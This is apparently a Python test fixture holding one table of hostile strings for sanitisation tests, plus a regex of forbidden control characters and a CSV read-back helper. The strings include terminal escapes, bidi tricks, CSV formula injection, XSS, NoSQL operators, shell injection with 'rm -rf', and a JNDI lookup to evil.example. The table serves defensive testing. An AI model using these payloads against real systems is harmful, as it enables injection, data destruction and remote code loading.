"""Strings that mean harm to whatever stores, shows or logs them: one table for all tests."""

from __future__ import annotations

import re

# What makes a terminal, a spreadsheet, a browser, a database or a log do something, by what it is.
POISONS = {
    "nul": "nul\0nul",
    "terminal colour": "\x1b[31mred\x1b[0m",
    "terminal title": "\x1b]0;owned\x07",
    "C1 terminal sequence": "\x9b31mred",
    "carriage return": "honest\rforged",
    "log line": "x\n2026-11-01 00:00:00 [root] CRITICAL: forged",
    "line separators": "a\u2028b\u2029c\x85d",
    "bidi override": "\u202egnp.exe",
    "bidi isolate": "\u2067x\u2069",
    "no width": "pay\u200bpal\ufeff",
    "lone surrogate": "a\ud800b",
    "noncharacter": "a\ufffeb\uffffc",
    "operator": "$where",
    "operator in JSON": '{"$gt": ""}',
    "operator in code": "'; while(true){}; var x='",
    "field path": "$source_url",
    "dotted": "a.b.$.c",
    "proto": "__proto__",
    "formula": "=cmd|'/C calc'!A0",
    "formula by sign": "+1-1@SUM(1)",
    "formula behind a semicolon": "a;=cmd()",
    "full-width formula": "＝1+1",
    "script": "<script>alert(1)</script>",
    "attribute": "\" onmouseover='alert(1)' x=\"",
    "Markdown": "[x](javascript:alert(1)) ![y](http://evil.example/)",
    "markup of tables": "[red]a[/red] [link=http://evil.example/]x[/link]",
    "format": "%s%n {0} {self.__class__} ${jndi:ldap://evil.example/}",
    "shell": "$(touch owned) `touch owned` ; rm -rf x",
    "looks written out": "<U+202E>",
    "astral": "🙂 \U000e0041 \U0010ffff",
}

# No output of any command holds one of these, but for its own line ends.
OBEYED = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ud800-\udfff\ufeff]")


def read_back(cell: str) -> str:
    """A parsed cell of CSV as the value it was, as docs/asking.md says."""
    return re.sub(r"<U\+([0-9A-F]{4})>", lambda found: chr(int(found[1], 16)), cell.removeprefix("'"))
